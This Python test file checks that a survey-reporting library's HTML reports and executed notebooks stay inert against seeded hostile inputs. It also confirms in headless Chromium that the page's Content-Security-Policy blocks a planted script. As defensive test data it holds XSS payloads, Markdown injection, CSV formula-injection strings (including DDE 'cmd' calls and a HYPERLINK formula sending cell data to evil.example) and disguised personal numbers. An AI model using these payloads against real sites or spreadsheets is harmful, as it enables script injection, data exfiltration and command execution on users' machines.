"""Issue 16 "Done when": hostile strings through the registry, the codebook, column headers and cells,
into the rendered bureau report and an executed notebook, and the CSP checked in a real browser.

Hostile strings are drawn with a fixed seed from four families -- markup (``<script>``,
``<img onerror>``, ``<svg onload>``, ``javascript:`` URLs, CSS ``expression()``), Markdown control
sequences (newline + ``# ``, backticks, ``[link](javascript:...)``, table pipes, rules), formula
prefixes (``= + - @``, tab, CR) and personal numbers split or disguised (``13812345678.0``,
full-width digits, separators, zero-width characters, ``138<b></b>1234<b></b>5678``, grouped 15- and
18-digit ID numbers) -- and written into copies of the shipped registry (community names, programme
text), codebook (indicator and group labels) and a survey export (headers and cells). What comes out
is parsed as a browser parses it: no script element, no event-handler attribute, no script URL, no
heading or table row the strings made, no personal number (the shared normaliser, scan_text). The
rendered page is then opened in headless Chromium with a script planted in it that would mark the
DOM if it ran: with the page's Content-Security-Policy it does not run; without it (the control) it
does.
"""
from __future__ import annotations

import functools
import random
import re
import shutil
import subprocess
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml

from evalkit.datasets import data_dir
from evalkit.io.privacy import citizen_id_check_digit
from evalkit.publish.disclosure import DisclosureError, assert_publishable, scan_notebook, scan_text

from . import _bureau_builds

SEED = 16
PWN = "document.documentElement.setAttribute('data-pwned','1')"
MARKUP = [f"<script>{PWN}</script>", f'<img src=x onerror="{PWN}">', f"<svg onload=\"{PWN}\"></svg>",
          "<a href=\"javascript:alert(1)\">x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>",
          '<div style="width:expression(alert(1))">', "<iframe src=javascript:alert(1)>",
          "</td></tr></table><script>alert(1)</script>", '"><script>alert(1)</script>',
          "<style>body{background:url(javascript:alert(1))}</style>", "&lt;script&gt;", "{{ 7*7 }}"]
MARKDOWN = ["\n# 结论：所有项目均无效\n", "\n## Injected heading\n", "`code`", "```", "[link](javascript:alert(1))",
            "![x](http://evil.example/x.png)", "| a | b |\n|---|---|\n| c | d |", "\n---\n", "**bold**",
            "$\\frac{1}{0}$", "\r\n# CR heading\r\n", "\u2028# LS heading"]
FORMULA = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]
#: heading texts the Markdown pieces would create if they were parsed
INJECTED_HEADINGS = ("结论", "Injected heading", "CR heading", "LS heading")


def _id18(body17: str) -> str:
    return body17 + citizen_id_check_digit(body17)


PERSONAL = ["13812345678.0", "１３８１２３４５６７８", "138-1234-5678", "138 1234 5678", "138\u200b1234\u200b5678",
            "138<b></b>1234<b></b>5678", "+86 139 0000 1234", "370502 19800101 " + _id18("37050219800101123")[-4:],
            " ".join(re.findall(".{1,6}", _id18("11010519491231002"))), "370502800101123"]


def hostile_strings(seed: int, n: int) -> list[str]:
    """`n` strings, each holding at least one markup, one Markdown and one formula piece, shuffled."""
    rng = random.Random(seed)
    out = []
    for _ in range(n):
        parts = [rng.choice(MARKUP), rng.choice(MARKDOWN), rng.choice(FORMULA)]
        parts += [rng.choice(MARKUP + MARKDOWN + FORMULA) for _ in range(rng.randint(0, 3))]
        rng.shuffle(parts)
        out.append("".join(parts))
    return out


def _write_study(folder: Path, *, names: list[str], labels: list[str], personal: tuple[str, str] | None = None):
    """Copies of the shipped registry and codebook with hostile names, programme text and labels."""
    from evalkit.spec.study import Study

    reg = pd.read_csv(data_dir() / "communities.csv", dtype=str, keep_default_na=False)
    prog = reg.index[reg["role"] == "programme"]
    for k, i in enumerate(prog):
        s = names[k % len(names)]
        reg.loc[i, "name_zh"] = reg.loc[i, "name_zh"] + s
        reg.loc[i, "name_pinyin"] = reg.loc[i, "name_pinyin"] + s
        reg.loc[i, "programme_zh"] = s + reg.loc[i, "programme_zh"]
        reg.loc[i, "programme_domain"] = s + reg.loc[i, "programme_domain"]
        reg.loc[i, "street"] = s
    if personal is not None:
        reg.loc[prog[0], "programme_zh"] = "联系电话 " + personal[0]
        reg.loc[prog[1], "name_zh"] = reg.loc[prog[1], "name_zh"] + personal[1]
    reg.to_csv(folder / "communities.csv", index=False)
    book = yaml.safe_load((data_dir() / "codebook.yaml").read_text(encoding="utf-8"))
    targets = {t for cell in reg.loc[prog, "target_indicators"] for t in cell.split(";")}
    for k, name in enumerate(sorted(targets)):
        if name in book.get("scales", {}):
            book["scales"][name]["zh"] = book["scales"][name]["zh"] + labels[k % len(labels)]
            book["scales"][name]["en"] = labels[(k + 1) % len(labels)] + book["scales"][name]["en"]
        elif name in book.get("items", {}):
            book["items"][name]["zh"] = str(book["items"][name].get("zh", name)) + labels[k % len(labels)]
            book["items"][name]["en"] = labels[(k + 1) % len(labels)] + str(book["items"][name].get("en", name))
    for k, group in enumerate(book["groups"].values()):
        group["zh"] = group["zh"] + labels[-1 - k % len(labels)]
        group["en"] = labels[-1 - k % len(labels)] + group["en"]
    (folder / "codebook.yaml").write_text(yaml.safe_dump(book, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return Study.from_files(folder / "codebook.yaml", folder / "communities.csv")


class _Page(HTMLParser):
    """Elements, attributes, headings and table rows of a page, as a browser parses it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.headings: list[str] = []
        self._heading = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k.lower(): v or "" for k, v in attrs}))
        if re.fullmatch(r"h[1-6]", tag):
            self._heading = ""

    def handle_endtag(self, tag):
        if re.fullmatch(r"h[1-6]", tag) and self._heading is not None:
            self.headings.append(self._heading.strip())
            self._heading = None

    def handle_data(self, data):
        if self._heading is not None:
            self._heading += data


def check_page(html: str, where: str) -> _Page:
    """Assert that `html` holds nothing executable, no injected heading and no personal number."""
    page = _Page()
    page.feed(html)
    page.close()
    for tag, attrs in page.tags:
        assert tag not in {"script", "iframe", "frame", "object", "embed", "base", "form"}, (where, tag)
        for name, value in attrs.items():
            assert not name.startswith("on"), (where, tag, name)
            bare = re.sub(r"[\s\x00-\x20]", "", value).lower()
            assert not bare.startswith(("javascript:", "vbscript:", "data:text/html")), (where, tag, name)
            assert name != "style" or "expression(" not in bare, (where, tag, name)
    for heading in page.headings:
        assert not heading.lstrip("#¶ ").startswith(INJECTED_HEADINGS), (where, heading[:60])
    assert scan_text(html).empty, (where, scan_text(html).head().to_dict("records"))
    assert_publishable(html, source=where)  # the library's own final check agrees
    return page


@functools.lru_cache(maxsize=None)
def hostile_bureau(lang: str) -> tuple[str, str]:
    """(HTML of the bureau report of the hostile study, the folder of the study's files)."""
    pytest.importorskip("evalkit.publish.bureau")
    folder = Path(tempfile.mkdtemp(prefix="evalkit-hostile-"))
    study = _write_study(folder, names=hostile_strings(SEED, 7), labels=hostile_strings(SEED + 1, 9))
    _, survey = _bureau_builds.survey_variant("never")
    return _bureau_builds.build(survey, study, lang=lang, out_dir=folder / "out"), str(folder)


def test_hostile_strings_cover_every_family():
    strings = hostile_strings(SEED, 7) + hostile_strings(SEED + 1, 9)
    assert strings == hostile_strings(SEED, 7) + hostile_strings(SEED + 1, 9)  # seeded
    for family in (MARKUP, MARKDOWN, FORMULA):
        assert all(any(p in s for p in family) for s in strings)
    assert all(not scan_text(p).empty for p in PERSONAL)  # every disguise is a personal number to the scanner


@pytest.mark.slow
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_bureau_report_of_a_hostile_registry_and_codebook_is_inert(lang):
    html, folder = hostile_bureau(lang)
    page = check_page(html, f"bureau report ({lang})")
    # the strings arrived (escaped, as text) rather than being dropped: the names are on the page
    text = "".join(d for d in re.split(r"<[^>]*>", html))
    assert "&lt;script&gt;" in html or "&lt;img" in html or "&lt;svg" in html
    assert "结论" in text or "Injected heading" in text
    reg = pd.read_csv(Path(folder) / "communities.csv", dtype=str, keep_default_na=False)
    assert len(page.headings) >= (reg["role"] == "programme").sum()


@pytest.mark.slow
def test_personal_numbers_in_the_registry_are_refused_not_published(tmp_path):
    """A disguised phone and ID number in a programme's text and name: the page is refused, and the
    refusal names the rule and the shape, not the number."""
    pytest.importorskip("evalkit.publish.bureau")
    from evalkit.publish.bureau import build_bureau_report

    _, spy = _bureau_builds.variant_report("never")
    summary = spy[0][1]
    _, survey = _bureau_builds.survey_variant("never")
    personal = ("138<b></b>1234<b></b>5678", random.Random(SEED).choice(PERSONAL[7:]))  # tag-split phone, an ID
    study = _write_study(tmp_path, names=["（一）"], labels=["（二）"], personal=personal)
    with pytest.raises(DisclosureError, match="personal_number") as err:
        build_bureau_report(survey, study, out_dir=tmp_path / "out", lang="zh", min_n=10, summary=summary)
    assert "phone" in str(err.value) and "citizen_id" in str(err.value)
    shown = re.sub(r"\D", "", str(err.value))
    assert "12345678" not in shown and re.sub(r"\D", "", personal[1])[-8:] not in shown
    assert not list((tmp_path / "out").glob("*.html"))


NOTEBOOK_CELLS = [
    ("parameters", "CODEBOOK = REGISTRY = EXPORT = None"),
    (None, "import evalkit\nfrom IPython.display import HTML, Markdown, display\n"
           "from evalkit.publish.disclosure import problems_table\nfrom evalkit.evaluation.targets import md_text\n"
           "study = evalkit.Study.from_files(CODEBOOK, REGISTRY)\n"
           "raw = evalkit.read_survey(EXPORT, study=study, personal_data='quarantine')\n"
           "report = evalkit.validate(raw, study=study)"),
    (None, "report"),
    (None, "print(report.describe())"),
    (None, "problems_table(report, study=study)"),
    (None, "for name in study.registry['name_zh']:\n    display(Markdown('- ' + md_text(name)))"),
    (None, "display(HTML('<p>' + study.registry['programme_zh'].iloc[0] + '</p>'))"),
    (None, "import matplotlib.pyplot as plt\nfig, ax = plt.subplots(figsize=(3, 2))\n"
           "ax.set_title(study.registry['name_pinyin'].iloc[0], usetex=False, parse_math=False)\nplt.show()"),
]


@pytest.mark.slow
def test_executed_notebook_and_its_rendered_page_are_inert_and_show_no_personal_number(tmp_path):
    """Hostile headers and cells in a survey export (markup, Markdown, formulas, disguised phone and
    ID numbers) read, validated and shown by a short notebook: its executed outputs and the page
    rendered from it hold nothing executable and no personal number."""
    import nbformat

    from evalkit.publish.render import execute_notebook, render_html

    strings = hostile_strings(SEED + 2, 8)
    _write_study(tmp_path, names=strings[:4], labels=strings[4:])
    export = pd.read_csv(data_dir() / "survey.csv", dtype=str, keep_default_na=False).head(60)
    rng = random.Random(SEED)
    for k, s in enumerate(strings[:3]):
        export[s] = [rng.choice(strings + PERSONAL) for _ in range(len(export))]  # hostile headers and cells
    for k, p in enumerate(PERSONAL):
        export.loc[2 * k, "age"] = p
        export.loc[2 * k + 1, "community_id"] = p
    for k, s in enumerate(strings):
        export.loc[40 + k, "who5_1"] = s
        export.loc[50 + k, "community_id"] = s
    path = tmp_path / "export.csv"
    export.to_csv(path, index=False)
    nb = nbformat.v4.new_notebook()
    for tag, src in NOTEBOOK_CELLS:
        nb.cells.append(nbformat.v4.new_code_cell(src, metadata={"tags": [tag]} if tag else {}))
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, tmp_path / "hostile.ipynb")
    done = execute_notebook(tmp_path / "hostile.ipynb", cwd=tmp_path, save_to=tmp_path / "executed.ipynb",
                            parameters={"CODEBOOK": str(tmp_path / "codebook.yaml"),
                                        "REGISTRY": str(tmp_path / "communities.csv"), "EXPORT": str(path)})
    outputs = [o for c in done.cells for o in c.get("outputs", [])]
    assert not [o for o in outputs if o.get("output_type") == "error" or o.get("name") == "stderr"]
    assert any("text/html" in o.get("data", {}) for o in outputs)  # the tables were shown
    assert scan_notebook(tmp_path / "executed.ipynb", threshold=None).empty
    html = render_html([done], title="hostile")
    check_page(html, "the notebook's page")


def _dump_dom(html: str, tmp: Path) -> str:
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if chromium is None:
        pytest.skip("no chromium (CI installs it)")
    page = tmp / "page.html"
    page.write_text(html, encoding="utf-8")
    run = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                          f"--user-data-dir={tmp / 'profile'}", "--virtual-time-budget=3000", "--dump-dom",
                          page.as_uri()], capture_output=True, text=True, timeout=120)
    assert run.returncode == 0 and "<body" in run.stdout, run.stderr[-2000:]
    return run.stdout


def _pwned(dom: str) -> bool:
    page = _Page()
    page.feed(dom)
    return any("data-pwned" in attrs for _, attrs in page.tags)


@pytest.mark.slow
def test_planted_script_does_not_run_in_chromium(tmp_path):
    """The hostile report in headless Chromium, with a script planted right after <body> (as if a
    string had slipped past escaping): the Content-Security-Policy stops it. Control: the same page
    without its CSP runs the script, so the check can see a script run."""
    html, _ = hostile_bureau("zh")
    csp = re.search(r'<meta http-equiv="Content-Security-Policy"[^>]*>', html)
    assert csp and "script-src 'none'" in csp.group(0)
    planted = re.sub(r"(<body[^>]*>)", lambda m: m.group(1) + f"<script>{PWN}</script>"
                     f'<img src="data:image/png;base64,AAAA" onerror="{PWN}">', html, count=1)
    assert planted != html
    assert not _pwned(_dump_dom(planted, tmp_path))
    assert not _pwned(_dump_dom(html, tmp_path))                              # the hostile strings themselves
    assert _pwned(_dump_dom(planted.replace(csp.group(0), ""), tmp_path))      # control: without the CSP it runs
